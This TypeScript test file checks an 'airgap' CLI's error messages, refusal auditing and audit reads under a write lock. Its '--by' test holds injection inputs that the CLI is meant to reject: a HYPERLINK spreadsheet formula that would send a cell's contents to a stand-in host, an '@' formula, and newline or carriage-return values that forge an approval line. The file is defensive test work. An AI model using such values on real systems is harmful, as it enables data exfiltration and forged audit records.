/**
 * The CLI as a process (bin/airgap.js over dist/, as operators run it): ordinary mistakes and a
 * stack that is down are one line and exit 1 (a JSON error object with --json), identities are
 * checked before anything is sent, refused actions are audited, and readers answer while another
 * process holds the audit's write lock.
 */
import { spawn, spawnSync, type ChildProcessWithoutNullStreams } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import { Client, Connection } from '@temporalio/client';
import { auditStoreFile, SqliteAuditStore } from '../../src/adapters/audit-store';
import { TEST_NAMESPACE, testTemporalAddress } from '../helpers/env';

const BIN = path.join(__dirname, '..', '..', 'bin', 'airgap.js');
let dir: string;
let configFile: string;
let storeFile: string;

function writeConfig(port: number): void {
  fs.writeFileSync(
    configFile,
    `dataDir: ./data
temporal: { namespace: ${TEST_NAMESPACE}, embedded: { port: ${port} } }
sites:
  - id: north
    dmz:
      manager: { url: 'https://dmz-north.example:4119/api', apiKeyEnv: DMZ_KEY }
      relay: { name: north-dmz-relay, computerId: 1 }
    airgapped:
      manager: { url: 'https://ag-north.example:4119/api', apiKeyEnv: AG_KEY }
      relays: [{ name: north-ag-relay, computerId: 2 }]
    people: { operators: [ops@north.example] }
`,
  );
}

/** A port nothing listens on. */
async function closedPort(): Promise<number> {
  return new Promise((resolve) => {
    const server = net.createServer().listen(0, '127.0.0.1', () => {
      const { port } = server.address() as net.AddressInfo;
      server.close(() => resolve(port));
    });
  });
}

function airgap(...args: string[]): { code: number; stdout: string; stderr: string; ms: number } {
  const env = { ...process.env };
  delete env.TEMPORAL_ADDRESS;
  delete env.AIRGAP_LOG_LEVEL;
  const started = Date.now();
  const r = spawnSync(process.execPath, [BIN, '--config', configFile, ...args], {
    env,
    encoding: 'utf8',
    timeout: 60_000,
  });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr, ms: Date.now() - started };
}

/** No stack frames ("    at fn (file:line)") in what a person sees. */
const NO_STACK = /^\s+at\s/m;

async function seedRun(workflowId: string): Promise<void> {
  const store = new SqliteAuditStore(storeFile);
  try {
    await store.append({
      id: `${workflowId}/start`,
      workflowId,
      site: 'north',
      kind: 'cycle',
      type: 'cycle.started',
      at: new Date().toISOString(),
    });
    await store.append({
      id: `${workflowId}/step`,
      workflowId,
      site: 'north',
      kind: 'cycle',
      type: 'bundle.built',
      at: new Date().toISOString(),
      actor: { who: 'ops@north.example', channel: 'cli' },
    });
  } finally {
    await store.close();
  }
}

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cli-errors-'));
  configFile = path.join(dir, 'airgap.yaml');
  storeFile = auditStoreFile(path.join(dir, 'data'));
});

afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('with the stack down', () => {
  it('says in one line that Temporal is not reachable and what to do, fast, exit 1', async () => {
    const port = await closedPort();
    writeConfig(port);
    const { code, stdout, stderr, ms } = airgap('cycle', 'list');
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toBe(
      `airgap: Temporal is not reachable at 127.0.0.1:${port} — is \`npm start\` (airgap start) running?\n`,
    );
    expect(ms).toBeLessThan(10_000);
  });

  it('writes a JSON error object on stdout with --json', async () => {
    const port = await closedPort();
    writeConfig(port);
    const { code, stdout, stderr } = airgap('--json', 'cycle', 'list');
    expect(code).toBe(1);
    expect(JSON.parse(stdout)).toEqual({
      error: `Temporal is not reachable at 127.0.0.1:${port} — is \`npm start\` (airgap start) running?`,
      code: 'unreachable',
      details: { address: `127.0.0.1:${port}` },
    });
    expect(stderr).not.toMatch(NO_STACK);
  });
});

describe('--by', () => {
  beforeEach(async () => writeConfig(await closedPort()));

  it.each([
    ['a spreadsheet formula', '=HYPERLINK("http://example.invalid/?x="&A1,"Open")', 'a formula'],
    ['a forged second line', 'ops@north.example\nApproved by: ciso@north.example', 'control characters'],
    ['a carriage return', 'alice\rbob', 'control characters'],
    ['a leading @', '@SUM(1+1)', 'a formula'],
  ])('refuses %s in one line before anything is sent, exit 1', (_what, by, why) => {
    for (const args of [
      ['cycle', 'approve', 'cycle-north-x', '--by', by],
      ['cycle', 'start', 'north', '--by', by],
      ['upgrade', 'abort', 'upgrade-north-x', '--by', by, '--reason', 'r'],
      ['harden', 'north', '--plan', '--by', by],
      ['rules', 'done', 'rules-north-x', '--step', 'import-rules', '--by', by],
    ]) {
      const { code, stdout, stderr } = airgap(...args);
      expect({ args, code }).toEqual({ args, code: 1 });
      expect(stdout).toBe('');
      expect(stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(stderr).toContain('is not a plausible identity');
      expect(stderr).toContain(why);
      // Refused before connecting: the (closed) Temporal port is never named.
      expect(stderr).not.toContain('not reachable');
    }
  });
});

describe('with the stack up', () => {
  let connection: Connection;
  let client: Client;

  beforeAll(async () => {
    connection = await Connection.connect({ address: testTemporalAddress() });
    client = new Client({ connection, namespace: TEST_NAMESPACE });
  });
  afterAll(() => connection.close());
  beforeEach(() => writeConfig(Number(testTemporalAddress().split(':')[1])));

  it('answers an action on an ended run in one line, exit 1, and audits the refusal with who, channel and reason', async () => {
    const workflowId = `cycle-north-${randomUUID()}`;
    const handle = await client.workflow.start('cycleWorkflow', { taskQueue: `nobody-${randomUUID()}`, workflowId });
    await handle.terminate('test');
    await seedRun(workflowId);
    const { code, stdout, stderr } = airgap('cycle', 'approve', workflowId, '--by', 'alice@north.example');
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toBe(
      `airgap: refused: cycle ${workflowId} has ended, so nothing can be changed any more (see airgap audit show ${workflowId})\n`,
    );
    const json = airgap('--json', 'cycle', 'copied', workflowId, '--by', 'bob', '--sha256', 'ab'.repeat(32));
    expect(json.code).toBe(1);
    expect(JSON.parse(json.stdout)).toMatchObject({ code: 'refused', error: expect.stringContaining('has ended') });
    // The run's refusal code travels beside the stable word, and into the audit as data.
    expect(JSON.parse(json.stdout)).toMatchObject({ refusal: 'ended', details: { refused: { code: 'ended' } } });

    const store = new SqliteAuditStore(storeFile, { readOnly: true });
    try {
      const refused = (await store.timeline(workflowId)).filter((r) => r.type === 'action.refused');
      expect(refused.map((r) => ({ actor: r.actor, action: r.data?.action }))).toEqual([
        { actor: { who: 'alice@north.example', channel: 'cli' }, action: 'approve' },
        { actor: { who: 'bob', channel: 'cli' }, action: 'fileCopied' },
      ]);
      expect(refused[0]!.data?.reason).toContain('has ended');
      expect(refused.map((r) => r.data?.code)).toEqual(['ended', 'ended']);
      expect((await store.verify()).ok).toBe(true);
    } finally {
      await store.close();
    }
  });
});

describe('the audit readers while another process holds the write lock', () => {
  let holder: ChildProcessWithoutNullStreams | undefined;

  afterEach(async () => {
    if (holder && holder.exitCode === null) {
      holder.stdin.end('COMMIT;\n');
      await new Promise((resolve) => holder!.once('exit', resolve));
    }
    holder = undefined;
  });

  it('answer audit verify and audit list at once, through the WAL', async () => {
    writeConfig(await closedPort());
    await seedRun('cycle-north-locked');
    holder = spawn('sqlite3', [storeFile]);
    await new Promise<void>((resolve, reject) => {
      holder!.stdout.on('data', (d: Buffer) => d.toString().includes('holding') && resolve());
      holder!.once('error', reject);
      holder!.stdin.write("BEGIN IMMEDIATE;\nSELECT 'holding';\n");
    });

    const verify = airgap('audit', 'verify');
    expect(verify.stderr).toBe('');
    expect(verify.code).toBe(0);
    expect(verify.stdout).toContain('audit chain ok: 2 records');
    expect(verify.ms).toBeLessThan(5_000);

    const list = airgap('audit', 'list', '--format', 'json');
    expect(list.code).toBe(0);
    expect(JSON.parse(list.stdout).runs.map((r: { workflowId: string }) => r.workflowId)).toEqual([
      'cycle-north-locked',
    ]);
    expect(list.ms).toBeLessThan(5_000);
  });
});
